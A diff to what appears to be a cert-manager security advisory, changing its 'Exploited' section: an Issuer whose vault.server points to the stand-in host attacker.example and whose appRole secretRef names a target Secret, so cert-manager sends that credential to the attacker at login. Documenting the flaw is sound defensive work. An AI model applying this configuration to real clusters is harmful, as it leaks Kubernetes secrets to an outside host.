@@ -8,7 +8,8 @@ namespace in which cert-manager runs.
 
 ## Exploited
 
-An Issuer with ``vault.server: https://attacker.example`` and ``auth.tokenSecretRef`` of the Secret that is wanted.
+An Issuer with ``vault.server: https://attacker.example`` and ``vault.auth.appRole.secretRef`` of the Secret that is
+wanted: cert-manager logs in with it at once.
 
 ## Closed
 
